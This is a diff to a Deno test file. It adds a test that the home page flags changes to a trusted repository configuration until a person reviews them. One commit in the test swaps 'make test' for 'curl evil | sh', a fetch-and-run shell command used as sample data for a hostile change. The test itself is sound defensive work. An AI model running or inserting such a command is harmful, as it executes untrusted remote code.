@@ -10,9 +10,11 @@ import {
 import { readProjectConfig } from "../agents/project_config.ts";
 import { mountApi } from "../server/routes/api.ts";
 import { createEventStreams } from "../server/sse.ts";
+import { countNeeds, listNeeds } from "../server/pages/needs.ts";
+import { noticeConfig } from "../server/services/config_news.ts";
 import { getCheckRules } from "../server/store/check_rules.ts";
 import { getProject } from "../server/store/projects.ts";
-import { TestRepo } from "./git_support.ts";
+import { never, TestRepo } from "./git_support.ts";
 import { bench as httpBench } from "./http_support.ts";
 import { pagesBench } from "./pages_support.ts";
 import { testApp } from "./support.ts";
@@ -138,6 +140,68 @@ Deno.test("what was trusted stays in force when the file changes or goes, until 
   match(await b.page("/config"), /This repository has no such file/);
   equal((await b.call("POST", "/config/distrust")).status, 409);
   equal((await b.call("POST", "/config/trust", { hash: json.hash })).status, 404);
+});
+
+Deno.test("Home tells that a trusted configuration has changed, until a person has looked at it", async () => {
+  await using b = await bench();
+  const { app, project, repo } = b;
+  const { json } = await b.call("GET", "/config");
+  const needs = () => listNeeds(app, null).filter(({ kind }) => kind === "config");
+  const notice = () => noticeConfig(app, getProject(app.db, project.id), never);
+  await repo.commit("Untrusted", { [FILE]: `${TEXT}# more\n` });
+  await notice();
+  deepEqual(needs(), [], "of what nobody trusts nothing is told");
+  await repo.commit("As it was", { [FILE]: TEXT });
+  await b.call("POST", "/config/trust", { hash: json.hash });
+  await notice();
+  deepEqual(needs(), []);
+
+  // The page does not wait for git; what is found comes by its stream.
+  await repo.commit("Other tests", { [FILE]: TEXT.replace("make test", "curl evil | sh") });
+  const told = new Promise<void>((resolve) => {
+    app.hub.subscribe((message) => {
+      if (message.kind === "event" && message.event.type === "project_config_changed") resolve();
+    });
+  });
+  await b.pages.get("/");
+  await told;
+  equal(needs().length, 1);
+  equal(countNeeds(app, null).needs, 1);
+  const home = await (await b.pages.get("/")).text();
+  match(home, /The configuration in the repository of Game has changed/);
+  match(home, new RegExp(`href="${b.at}/config"[^>]*>Look<`));
+
+  // A second change is told anew, the one before can't be put off any more, and what is put off stays so.
+  const changed = await b.page("/config");
+  match(changed, /Keep what was trusted/);
+  await repo.commit("Others again", { [FILE]: TEXT.replace("make test", "make tests") });
+  const late = await b.call("POST", "/config/keep", { hash: hashIn(changed) });
+  deepEqual([late.status, late.json.detail.includes("has changed since you looked")], [409, true]);
+  const hash = hashIn(await b.page("/config"));
+  equal((await b.pages.post(`${b.at}/config/keep`, { hash })).status, 303);
+  await notice();
+  deepEqual(needs(), []);
+  doesNotMatch(await b.page("/config"), /Keep what was trusted/);
+
+  await repo.git("rm", "-q", FILE);
+  await repo.git("commit", "-qm", "Gone");
+  await notice();
+  match(
+    await (await b.pages.get("/")).text(),
+    /The configuration in the repository of Game is gone/,
+  );
+  equal((await b.call("POST", "/config/keep", { hash: "" })).status, 200);
+  deepEqual(needs(), []);
+  await repo.commit("Back", { [FILE]: TEXT });
+  await notice();
+  deepEqual(needs(), []);
+  equal((await b.call("POST", "/config/keep", { hash: json.hash })).status, 409);
+  await repo.commit("Once more", { [FILE]: `${TEXT}# more\n` });
+  await notice();
+  equal(needs().length, 1);
+  equal((await b.call("POST", "/config/distrust")).status, 200);
+  deepEqual(needs(), [], "nobody trusts it: nothing to tell");
+  equal((await b.call("POST", "/config/keep", { hash })).status, 409);
 });
 
 Deno.test("a file that is wrong is refused with its line, key and what was expected", async () => {
